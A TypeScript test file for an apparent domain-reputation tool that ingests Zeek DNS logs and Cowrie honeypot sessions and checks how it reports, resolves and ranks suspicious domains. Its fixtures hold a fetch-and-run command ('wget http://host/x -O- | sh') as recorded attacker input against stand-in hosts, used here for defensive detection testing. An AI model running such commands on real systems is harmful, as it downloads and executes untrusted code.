import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openSystem, type System } from '../../../test/setup/commands.ts';
import { isResolved } from '../../findings/index.ts';
import type { Finding } from '../../model/finding.ts';
import type { Standing } from '../../reputation/rank/standing.ts';

let system: System;
beforeAll(async () => {
  system = await openSystem();
}, 60_000);
afterAll(() => system?.close());

const names = ['update.kitten-pictures.com', 'login.kitten-pictures.com'];
const told = async (type = 'domain-score') =>
  (await system.ask<Finding>('findings', '--limit', '1000')).filter((finding) => finding.type === type);
const imported = async (format: string, name: string, lines: readonly string[]) => {
  const file = join(system.folder, name);
  writeFileSync(file, `${lines.join('\n')}\n`);
  expect((await system.run('import', '--format', format, file)).code).toBe(0);
  // Ranks, and so tells what came over a threshold.
  await system.ask('domains', 'rank');
  await system.pipeline.domainFindings.drain();
};
const asked = (names: readonly string[], client = 7) =>
  names.map((query, n) =>
    JSON.stringify({
      ...{ ts: Date.now() / 1_000 - 60 + n / 1_000, uid: `C${client}`, proto: 'udp', query, qtype_name: 'A' },
      ...{ 'id.orig_h': `198.51.100.${client}`, 'id.orig_p': 40_000, 'id.resp_h': '198.51.100.53' },
      ...{ 'id.resp_p': 53, rcode_name: 'NOERROR', answers: ['203.0.113.9'], TTLs: [300] },
    }),
  );
const session = (hosts: readonly string[]) =>
  [
    { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22 },
    { eventid: 'cowrie.login.success', username: 'root', password: 'x' },
    ...hosts.map((host) => ({ eventid: 'cowrie.command.input', input: `wget http://${host}/x -O- | sh` })),
    { eventid: 'cowrie.session.closed', duration_ms: 4_000 },
  ].map((one, second) =>
    JSON.stringify({
      timestamp: new Date(Date.UTC(2026, 1, 1, 0, 0, second)).toISOString(),
      ...{ src_ip: '192.0.2.7', session: `s${hosts[0]}`, sensor: 'd', protocol: 'ssh' },
      ...one,
    }),
  );

it('tells once of what is registered, with reasons and who asked, and never denies', {
  timeout: 120_000,
}, async () => {
  await imported('zeek-dns', 'quiet.json', asked(['www.garden.org']));
  expect(await told()).toEqual([]);
  await imported('cowrie', 'pot.json', session(['203.0.113.9', ...names]));
  const all = [7, 8, 9].flatMap((client) => asked(names, client));
  await imported('zeek-dns', 'clients.json', all);
  const found = await told();
  expect(found.map(({ subject }) => subject.value)).toEqual(['kitten-pictures.com']);
  const [finding] = found;
  expect(finding).toMatchObject({
    evidence: 'E0',
    subject: { type: 'domain' },
    done: 'Nothing was blocked.',
  });
  expect(finding!.whyNot).toContain('hearsay (E0)');
  expect(finding!.seen).toContain('at a decoy');
  expect(finding!.seen).toContain('is on no list');
  expect(finding!.seen).toContain('3 clients asked for it');
  // It rests on what resolvers answered.
  const [why] = await system.ask<{ signals: { events: { kind: string; name: string }[] }[] }>(
    'why',
    finding!.id,
  );
  const events = why!.signals.flatMap((signal) => signal.events);
  expect(events.length).toBeGreaterThan(0);
  expect(events.every(({ kind, name }) => kind === 'answer' && names.includes(name))).toBe(true);
  // A name, the address that it is on, and the one that told of both, are answered for as well.
  const [name] = await system.ask<{ standing: Standing; findings: Finding[] }>('why', names[0]!);
  const { standing } = name!;
  expect(standing.reasons.reduce((sum, { points }) => sum + points, standing.base)).toBeCloseTo(
    standing.score,
    4,
  );
  expect(name!.findings.map(({ id }) => id)).toEqual([finding!.id]);
  const text = (await system.run('why', names[0]!)).out;
  expect(text).toContain(`scores ${standing.score.toFixed(1)} of 100 (${standing.class})`);
  expect(text).toContain('at a decoy');
  expect((await system.run('why', '203.0.113.9')).out).toMatch(
    /203\.0\.113\.9 scores \d+\.\d of 100 \(\w+\): it .* at a decoy/,
  );
  expect((await system.run('why', '192.0.2.7')).out).toContain(
    `${names[0]} scores ${standing.score.toFixed(1)}`,
  );
  expect((await system.run('why', 'never.asked.example')).code).toBe(1);
  const decided = await system.ask<{ decision: { scope: { source: string }; policy: string } }>('decisions');
  expect(decided.map(({ decision }) => `${decision.scope.source} ${decision.policy}`)).toEqual([
    '192.0.2.7 dropper',
  ]);
});

it('takes back what was wrong, and stands by what it took back once it is right again', {
  timeout: 120_000,
}, async () => {
  const { store, domainFindings } = system.pipeline;
  // What the decoy knew has been forgotten.
  await store.expire(Date.UTC(2026, 2, 1));
  system.pipeline.domains.heard();
  await system.ask('domains', 'rank');
  await domainFindings.check();
  const [wrong] = await told();
  expect(isResolved(wrong!)).toBe(true);
  expect(wrong!.done).toMatch(/^Resolved on \d{4}-\d\d-\d\d: it fell to \d/);
  await imported('cowrie', 'pot2.json', session(['203.0.113.9', wrong!.subject.value]));
  await imported('cowrie', 'pot3.json', session(names));
  await domainFindings.check();
  const [right] = await told();
  expect(right!.id).toBe(wrong!.id);
  expect(isResolved(right!)).toBe(false);
});

it('tells of so many a day, the worst first, and says how many are left out', {
  timeout: 120_000,
}, async () => {
  const many = Array.from({ length: 60 }, (_, n) => `update.kitten-pictures${n}.com`);
  await imported('cowrie', 'pot4.json', session(many.slice(0, 30)));
  await imported('cowrie', 'pot5.json', session(many.slice(30)));
  await imported('zeek-dns', 'many.json', asked(many));
  const found = await told();
  expect(found).toHaveLength(50);
  const [left] = await told('domains-left-out');
  expect(Number(/^(\d+) more domains came over/.exec(left!.title)![1])).toBeGreaterThan(0);
  expect(left!.seen).toContain('.com');
  expect(system.pipeline.domainFindings.counters.leftOut).toBe(
    Number(/^(\d+) more domains came over/.exec(left!.title)![1]),
  );
});
